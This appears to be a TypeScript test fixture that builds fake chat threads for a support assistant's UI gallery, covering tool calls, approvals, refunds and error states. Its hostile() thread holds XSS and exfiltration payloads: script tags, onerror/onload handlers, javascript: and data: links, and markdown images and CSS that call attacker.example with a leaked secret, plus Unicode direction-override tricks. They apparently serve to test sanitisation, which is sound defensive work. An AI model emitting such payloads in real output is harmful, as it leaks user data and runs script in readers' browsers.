/** The threads of the gallery: every state of messages, tool calls and approvals. */
import type { Part } from "../src/core/index.js";
import type { MessageRow, ToolCallRow } from "../src/client/index.js";
import { FakeThread, type FakeServer } from "./fake-server.js";
import { approvalRow, callRow, messageRow, runRow, threadRow, userRow } from "./rows.js";

export const TOUR = "t1";
export const EMPTY = "";
export const STREAMING = "t2";
export const HOSTILE = "t3";

const HOUR = 3_600_000;
const ago = (hours: number): string => new Date(Date.now() - hours * HOUR).toISOString();

const call = (id: string): Part => ({ type: "tool_call", id }) as Part;
const text = (value: string): Part => ({ type: "text", text: value });

export function addThreads(server: FakeServer): void {
  server.add(tour());
  server.add(new FakeThread(threadRow(STREAMING, { title: "Where is my parcel?", last_activity_at: ago(0.2) })));
  server.add(hostile());
  const others: [string, number, object][] = [
    ["Gift card balance", 5, { active_run: "x" }],
    ["Return of a damaged brass pen", 27, { waiting: true }],
    ["Invoice for the office order in October", 30, {}],
    ["Change of delivery address", 80, {}],
    ["Which notebook has dotted paper?", 130, {}],
    ["هل يمكنني تغيير طلبي؟", 400, {}],
    ["Wholesale prices", 900, {}],
  ];
  others.forEach(([title, hours, more], index) => {
    server.add(new FakeThread(threadRow(`o${index}`, { title, last_activity_at: ago(hours), ...more })));
  });
}

function tour(): FakeThread {
  const thread = new FakeThread(
    threadRow(TOUR, { title: "Refund for order 1042", head: "a5", version: 9, last_activity_at: ago(0.1), waiting: true }),
  );
  thread.put({
    messages: chained([
      userRow("u1", "Hi! My order 1042 arrived with a broken pen. Can I get my money back?"),
      messageRow("a1", {
        parts: [
          { type: "reasoning", text: "The customer wants a refund. I look the order up first, then ask for the refund." },
          text("I am sorry about the pen. Let me look at the order."),
          call("c1"),
          call("c2"),
          call("c3"),
          call("c4"),
          text("Your order holds two items. The **brass pen** cost €42.00, so I ask for exactly that amount."),
          call("c5"),
        ],
        siblings: ["a0", "a1"],
      }),
      userRow("u2", "While we wait: which gift wrap do you have?\nAnd can you switch the page to dark?", { siblings: ["u2", "u2b"] }),
      messageRow("a2", { parts: [call("c6"), call("c9"), call("c10"), call("c11"), text("Done. We have three kinds of wrap.")] }),
      messageRow("e1", { role: "event", parts: [text("Your refund of €42.00 for order 1042 was approved by staff.")] }),
      messageRow("a3", { parts: [text("Good news, your refund was approved.")], status: { type: "incomplete", reason: "cancelled" } }),
      userRow("u4", "Can you also cancel order 1043?"),
      messageRow("a4", {
        parts: [text("I will try.")],
        status: { type: "incomplete", reason: "error" },
        error: { code: "provider", message: "The model could not be reached (overloaded). Please try again." },
      }),
      userRow("u5", "Please ask my colleague if we should keep it."),
      messageRow("a5", {
        status: { type: "requires_action", reason: "tool_calls" },
        parts: [text("Which of these suits you best?"), call("c7"), call("c8"), call("c12")],
      }),
    ]),
    tool_calls: calls(),
    approvals: [
      approvalRow("p1", {
        tool_call: "c5",
        tool_name: "refund_order",
        args_text: calls()[4]?.args_text ?? "",
        who: "staff with shop.refund_order",
        expires_at: new Date(Date.now() + 23 * HOUR).toISOString(),
      }),
      approvalRow("p2", {
        tool_call: "c8",
        tool_name: "cancel_order",
        args_text: '{"order_id": 1043, "note": "asked by customer\\u202e"}',
        may_decide: true,
        who: "you",
        required: 2,
        decided: { approve: 1, deny: 0 },
      }),
      approvalRow("p3", {
        tool_call: "c9",
        status: "denied",
        decisions: [{ user: "sam", verdict: "deny", reason: "The voucher was already used in May.", option: null, door: "admin", created_at: ago(1) }],
      }),
    ],
    runs: [runRow("r1", { status: "requires_action", reason: "tool_calls" })],
  });
  return thread;
}

function calls(): ToolCallRow[] {
  return [
    callRow("c1", { status: "complete", args_text: '{"order_id": 1042}', result: { number: 1042, status: "delivered", total: "60.00", items: [{ name: "Brass pen", price: "42.00" }, { name: "Field notebook", price: "18.00" }] } }),
    callRow("c2", { tool_name: "check_stock", status: "executing", args_text: '{"sku": "PEN-BRASS", "warehouse": "Lyon"}', progress: { value: 0.62, label: "Asking the second warehouse" } }),
    callRow("c3", { tool_name: "carrier_status", status: "failed", is_error: true, args_text: '{"parcel": 90071992547409931234}', result: "The carrier does not know this parcel." }),
    callRow("c4", { tool_name: "write_note", status: "streaming", args_text: '{"order_id": 1042, "note": "Customer reports a broken' }),
    callRow("c5", { tool_name: "refund_order", status: "awaiting_approval", approval: "p1", args_text: '{"order_id": 1042, "amount": "42.00", "reason": "Brass pen arrived broken"}' }),
    callRow("c6", { message: "a2", tool_name: "set_theme", kind: "frontend", status: "complete", args_text: '{"theme": "dark"}', result: "done" }),
    callRow("c7", { message: "a5", tool_name: "ask_customer", kind: "human", status: "pending", args_text: '{"question": "How should we pay the money back?", "choices": ["To my card", "As a gift card", "Bank transfer"]}' }),
    callRow("c8", { message: "a5", tool_name: "cancel_order", status: "awaiting_approval", approval: "p2", args_text: '{"order_id": 1043}' }),
    callRow("c9", { message: "a2", tool_name: "grant_voucher", status: "denied", approval: "p3", is_error: true, args_text: '{"value": "10.00"}', result: "Denied." }),
    callRow("c10", { message: "a2", tool_name: "send_parcel", status: "interrupted", is_error: true, args_text: '{"order_id": 1042}', result: "Interrupted after it began." }),
    callRow("c11", { message: "a2", tool_name: "raise_limit", status: "expired", is_error: true, args_text: '{"limit": 500}', result: "Expired." }),
    callRow("c12", { message: "a5", tool_name: "delivery_form", kind: "human", status: "pending", args_text: JSON.stringify({ question: "Where should the new pen go?", schema: { type: "object", properties: { street: { type: "string", title: "Street and number" }, country: { enum: ["France", "Spain", "Portugal"], title: "Country" }, gift: { type: "boolean", title: "Wrap it as a gift" } }, required: ["street"] } }) }),
  ];
}

function hostile(): FakeThread {
  const thread = new FakeThread(threadRow(HOSTILE, { title: "<img src=x onerror=alert(1)> \u202etitle", head: "a1", last_activity_at: ago(3) }));
  thread.put({
    messages: chained([
      userRow("u1", "<script>alert(1)</script>"),
      messageRow("a1", {
        parts: [
          text("![x](https://attacker.example/p.png?leak=SECRET)\n\n<img src=//attacker.example/p.png?d=1>\n\n[open](javascript:alert(1)) [open](JaVaScRiPt&#58;alert(1)) [doc](data:text/html;base64,PHNjcmlwdD4=)\n\n<svg onload=alert(1)>\n\n![a][ref]\n\n[ref]: https://attacker.example/x.png\n\n```html\n<script>alert(1)</script>\n```\n\n<style>*{background:url(https://attacker.example/)}</style>\n\n<a href='https://example.com' style='position:fixed;inset:0'>cover</a>"),
        ],
      }),
    ]),
  });
  return thread;
}

/** Each message answers the one before. */
function chained(rows: MessageRow[]): MessageRow[] {
  return rows.map((row, index) => ({ ...row, parent: rows[index - 1]?.id ?? null, seq: index + 1 }));
}
